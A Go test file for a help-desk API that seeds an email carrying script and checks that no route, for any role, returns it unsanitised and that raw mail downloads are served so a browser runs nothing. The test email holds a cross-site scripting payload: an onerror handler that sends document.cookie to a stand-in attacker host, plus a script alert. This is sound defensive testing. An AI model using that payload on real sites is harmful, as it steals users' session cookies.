package api

import (
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/ledgerdesk/ledgerdesk/domain"
)

// scriptMail is a mail whose HTML part carries script: a <script> element
// and an onerror handler. Its text part and headers are harmless.
func scriptMail(messageID string) []byte {
	return []byte(strings.Join([]string{
		"From: Mallory <mallory@example.org>",
		"To: support@example.org",
		"Subject: invoice",
		"Message-ID: <" + messageID + ">",
		"MIME-Version: 1.0",
		`Content-Type: multipart/alternative; boundary="alt"`,
		"",
		"--alt",
		"Content-Type: text/plain; charset=utf-8",
		"",
		"Please find the invoice.",
		"--alt",
		"Content-Type: text/html; charset=utf-8",
		"",
		`<p>Please find the <b>invoice</b>.</p><img src=x onerror="fetch('https://evil.example/'+document.cookie)">`,
		`<script>alert(document.domain)</script>`,
		"--alt--",
		"",
	}, "\r\n"))
}

// scriptMarkers are what must not reach a client in any JSON answer.
var scriptMarkers = []string{"<script", "onerror", "evil.example", "alert("}

// TestRawHTML_NeverReachesAnyRole reads every GET route of the route table
// as every role, over HTTP, after a mail with script was received: no JSON
// answer carries the script, in its bytes or in any string it decodes to,
// and what is downloaded as received (.eml, parts) is served so that a
// browser runs nothing in it.
func TestRawHTML_NeverReachesAnyRole(t *testing.T) {
	t.Parallel()
	e := newEnv(t, backend{"embedded", openEmbedded})
	m := e.seedMail(t, scriptMail(uniq("script")+"@example.org"))
	// the sanitised HTML still says what the mail says
	var body articleBody
	e.mustJSON(t, http.MethodGet, m.path("/body"), e.tokens[domain.RoleAgent], nil, http.StatusOK, &body)
	if !strings.Contains(body.HTML, "<b>invoice</b>") {
		t.Fatalf("sanitised HTML = %q, want the invoice text kept", body.HTML)
	}

	param := map[string]string{":id": m.ticketID, ":seq": "1", ":n": "1", ":cid": "none@example.org"}
	for _, r := range (&server{}).routes() {
		if r.Method != http.MethodGet || (strings.Contains(r.Path, ":") && !strings.HasPrefix(r.Path, Prefix+"/tickets/")) {
			continue // the other routes with a parameter serve no mail content
		}
		path := r.Path
		for k, v := range param {
			path = strings.ReplaceAll(path, k, v)
		}
		path += fmt.Sprintf("?min_position=%d&limit=500", m.position)
		for _, role := range domain.Roles {
			resp, raw := e.do(t, http.MethodGet, path, e.tokens[role], nil)
			if resp.StatusCode != http.StatusOK {
				continue
			}
			ct := resp.Header.Get("Content-Type")
			if !strings.HasPrefix(ct, "application/json") {
				// a download of the mail as received: never run, never sniffed
				if resp.Header.Get("X-Content-Type-Options") != "nosniff" || !strings.Contains(resp.Header.Get("Content-Security-Policy"), "sandbox") ||
					!strings.HasPrefix(resp.Header.Get("Content-Disposition"), "attachment") || strings.Contains(ct, "html") {
					t.Errorf("%s as %s: download headers %v, want nosniff, a sandbox CSP and an attachment that is not HTML", path, role, resp.Header)
				}
				continue
			}
			var doc any
			if err := json.Unmarshal(raw, &doc); err != nil {
				t.Errorf("%s as %s: %v", path, role, err)
				continue
			}
			for _, s := range append(jsonStrings(doc), string(raw)) {
				for _, bad := range scriptMarkers {
					if strings.Contains(strings.ToLower(s), bad) {
						t.Errorf("%s as %s: answer carries %q: %.200s", path, role, bad, s)
					}
				}
			}
		}
	}

	// each role sees one rule: readers get the text and whether there is
	// HTML (served sanitised by .../body), analysts no body at all
	for _, role := range rolesAll {
		var detail struct {
			Articles []map[string]any `json:"articles"`
		}
		e.mustJSON(t, http.MethodGet, fmt.Sprintf("/api/v1/tickets/%s?min_position=%d", m.ticketID, m.position), e.tokens[role], nil,
			http.StatusOK, &detail)
		a := detail.Articles[0]
		if _, ok := a["html_body"]; ok {
			t.Errorf("GET ticket as %s: article has html_body", role)
		}
		text, hasText := a["text_body"]
		if role == domain.RoleAnalyst {
			if hasText || a["has_html"] != nil {
				t.Errorf("GET ticket as analyst: article %v, want no body", a)
			}
			continue
		}
		if text != "Please find the invoice." || a["has_html"] != true {
			t.Errorf("GET ticket as %s: text_body %v, has_html %v; want the text and true", role, text, a["has_html"])
		}
	}
}

// jsonStrings returns every string a decoded JSON value holds, keys too.
func jsonStrings(v any) []string {
	switch v := v.(type) {
	case string:
		return []string{v}
	case []any:
		var out []string
		for _, x := range v {
			out = append(out, jsonStrings(x)...)
		}
		return out
	case map[string]any:
		var out []string
		for k, x := range v {
			out = append(out, k)
			out = append(out, jsonStrings(x)...)
		}
		return out
	}
	return nil
}
